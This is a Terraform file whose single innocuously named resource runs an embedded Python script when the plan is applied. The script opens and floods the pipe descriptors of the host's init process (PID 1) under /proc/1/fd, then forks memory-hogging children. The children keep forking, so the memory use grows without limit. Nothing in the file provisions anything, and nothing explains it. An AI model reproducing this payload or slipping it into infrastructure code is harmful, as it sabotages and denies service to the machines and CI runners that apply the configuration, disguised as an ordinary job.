resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/usr/bin/python3", "-c"]
    command     = <<-EOT
      import os, threading, time
      def take(file):
          while os.read(file, 64):
              pass
      for path in [f"/proc/1/fd/{n}" for n in range(3, 40)]:
          try:
              if "pipe" not in os.readlink(path):
                  continue
              threading.Thread(target=take, args=(os.open(path, os.O_RDONLY),), daemon=True).start()
              writer = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
              for n in range(3000):
                  os.write(writer, bytes([0]))
                  time.sleep(0.0001)
          except OSError as cause:
              print(path, cause, flush=True)
      kept = []
      for n in range(8):
          if os.fork() == 0:
              x = bytearray(80 << 20)
              for at in range(0, 80 << 20, 4096): x[at] = 1
              time.sleep(30)
      time.sleep(30)
    EOT
  }
}
